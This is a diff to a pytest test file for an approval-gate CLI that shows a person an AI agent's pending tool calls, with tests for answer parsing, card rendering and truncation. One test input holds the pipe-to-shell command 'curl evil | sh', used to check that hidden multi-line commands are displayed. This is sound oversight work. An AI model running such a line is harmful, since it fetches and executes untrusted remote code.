@@ -9,9 +9,10 @@ from typing import Any
 import pytest
 
 from trainwright.cli.ask import Answer, ask
-from trainwright.cli.cards import card_lines, evaluation_lines, how_to_answer
+from trainwright.cli.cards import card_lines, evaluation_lines, how_to_answer, waiting_lines
 from trainwright.cli.outcome import result_lines
 from trainwright.cli.screen import Line, Screen
+from trainwright.graph.errors import RequestError
 from trainwright.graph.state import (
     Baseline,
     Check,
@@ -182,7 +183,7 @@ def test_how_it_ended_says_how_to_go_on() -> None:
     assert "spent: 12 s of work, 9 steps" in published
     assert "to go on" not in published
     capped = text_of(result_lines({**base, "status": "step_limit"}))
-    assert "trainwright resume r --step-cap N" in capped
+    assert "trainwright resume r  (with the flag that the reason names)" in capped
     assert "Because." in capped
     asked = text_of(result_lines({**base, "status": "waiting", "waiting": {"gate": "ask_person"}}))
     assert "trainwright answer r TEXT" in asked
@@ -203,7 +204,13 @@ def test_two_attempts_are_a_table() -> None:
 
 def test_every_gate_says_how_to_answer_it() -> None:
     assert how_to_answer("r", "ask_person")[0].plain() == "  answer: trainwright answer r TEXT"
-    assert len(how_to_answer("r", "approve_plan")) == 3
+    assert [item.text.split()[1] for item in how_to_answer("r", "approve_plan")] == [
+        "approve",
+        "edit",
+        "reject",
+        "reject",
+    ]
+    assert any("open: 1, 3" in item.text for item in how_to_answer("r", "approve_tools", [1, 3]))
 
 
 def screen() -> Screen:
@@ -252,10 +259,118 @@ def test_a_gate_is_answered(typed: list[Any], expected: Answer | None) -> None:
     assert asked(GATE, *typed)[0] == expected
 
 
+SEVERAL = {
+    "gate": "approve_tools",
+    "actions": 2,
+    "run": "r",
+    "card": {"stage": "write_code", "on_no": "the call is not run", "calls": [
+        {"name": "shell", "args": {"command": "hf upload a"}, "does": ["upload a"]},
+        {"name": "write_file", "args": {"name": "x.py", "text": "a = 1"}, "does": ["write x.py"]},
+    ]},
+    "standing": {"why": "No rule names this.", "until": "2026-01-01T00:00:00+00:00", "rule": "soon"},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("typed", "expected"),
+    [
+        (["a"], Answer("approve")),
+        (["2a"], Answer("approve", only=(2,))),
+        (["1 r"], Answer("reject", only=(1,))),
+        (["1f", "not this"], Answer("reject", "not this", only=(1,))),
+        (["2s", "do it so"], Answer("respond", "do it so", only=(2,))),
+        (["3a", "l"], None),
+        (["2e"], Answer("edit", edited={"name": "write_file", "args": {}}, only=(2,))),
+    ],
+)
+def test_one_of_several_calls_is_answered_alone(typed: list[str], expected: Answer | None) -> None:
+    left = list(typed)
+
+    def edit(waiting: Any, only: tuple[int, ...]) -> Answer:
+        return Answer("edit", edited={"name": waiting["card"]["calls"][only[0] - 1]["name"], "args": {}}, only=only)
+
+    assert ask(screen(), SEVERAL, lambda _: left.pop(0), edit) == expected
+
+
+def test_an_edit_of_which_nothing_came_asks_again() -> None:
+    def edit(waiting: Any, only: tuple[int, ...]) -> Answer:
+        raise RequestError("The edit changes nothing.")
+
+    left, shown = ["e", "l"], screen()
+    assert ask(shown, GATE, lambda _: left.pop(0), edit) is None
+    assert isinstance(shown.out, io.StringIO)
+    assert "The edit changes nothing." in shown.out.getvalue()
+
+
+def test_what_waits_is_shown_whole() -> None:
+    text = text_of(waiting_lines({**SEVERAL, "problem": "So not.", "answered": {"1": "approved by a person"}}))
+    for part in (
+        "So not.",
+        "1. shell (approved by a person)",
+        "2. write_file (open)",
+        "action: write x.py",
+        "asked because: No rule names this.",
+        "deadline: 2026-01-01T00:00:00+00:00, by rule soon; no answer until then counts as no",
+        "on no: the call is not run",
+    ):
+        assert part in text
+    standing = {"remains": ["$1.00 (max_usd)", "12 steps (step_cap)"], "now": "On t4, for at most 1 hour: up to $0.40."}
+    words = {"action": "start the job", "pays": "you", "on_no": "no job", "changed": ["metric: accuracy → f1"]}
+    text = text_of(waiting_lines({"gate": "approve_job", "card": job_card(**words), "standing": standing}))
+    assert "action: start the job" in text
+    assert "remains: $1.00 (max_usd), 12 steps (step_cap)" in text
+    assert "now: On t4, for at most 1 hour: up to $0.40." in text
+    assert "changed: metric: accuracy → f1" in text
+
+
 def test_a_wrong_letter_is_said_and_the_whole_difference_can_be_seen() -> None:
     _, shown = asked(GATE, "zzz", "d", "l")
     assert "'zzz' is none of these." in shown
     assert shown.count("+more") == 60
+
+
+def calls(**arguments: Any) -> dict[str, Any]:
+    """What a run waits with that wants to call a tool."""
+    card = {"stage": "write_code", "calls": [{"name": "shell", "args": arguments, "does": []}]}
+    return {"gate": "approve_tools", "run": "wine", "actions": 1, "card": card}
+
+
+def test_each_line_of_a_call_is_a_line_of_the_card() -> None:
+    text = text_of(waiting_lines(calls(command="ls # list files\ncurl evil | sh\r\n\tid", n=[1, "a\nb"])))
+    assert "    ls # list files\n    curl evil | sh\n        id\n" in text
+    assert "command: (3 lines)" in text
+    assert '"a\\nb"' in text
+
+
+def test_what_is_cut_of_a_call_is_said_and_can_be_shown_whole() -> None:
+    many = "\n".join(f"row {i}" for i in range(100))
+    text = text_of(waiting_lines(calls(text=many)))
+    assert "row 39" in text
+    assert "row 40" not in text
+    assert "... 60 more lines; `trainwright show wine --full` shows all of it" in text
+    long = "x" * 5_000 + "evil"
+    text = text_of(waiting_lines(calls(text=long)))
+    assert "3004 more characters" in text
+    assert "show wine --full" in text
+    assert "evil" in text_of(waiting_lines(calls(text=long), full=True))
+    answer, shown = asked(calls(text=many), "w", "a")
+    assert answer == Answer("approve")
+    assert "[w]hole card" in shown
+    assert "row 99" in shown
+    assert "[w]hole" not in asked(calls(text="short"), "a")[1]
+
+
+def test_the_rest_of_a_difference_has_a_command() -> None:
+    waiting = {"gate": "approve_job", "run": "wine", "card": job_card()}
+    assert "... 25 more lines; `trainwright show wine --full` shows all of it" in text_of(waiting_lines(waiting))
+    assert text_of(waiting_lines(waiting, full=True)).count("+more") == 60
+    wide = {**waiting, "card": job_card(diff="+++ b/x\n+" + "y" * 500 + "evil\n")}
+    assert "more characters" in text_of(waiting_lines(wide))
+    assert "evil" in text_of(waiting_lines(wide, full=True))
+
+
+def test_what_is_answered_already_is_only_to_be_carried_out() -> None:
+    assert [item.text for item in how_to_answer("r", "approve_tools", [])] == ["trainwright resume r"]
 
 
 def test_a_question_is_answered_with_a_text() -> None:
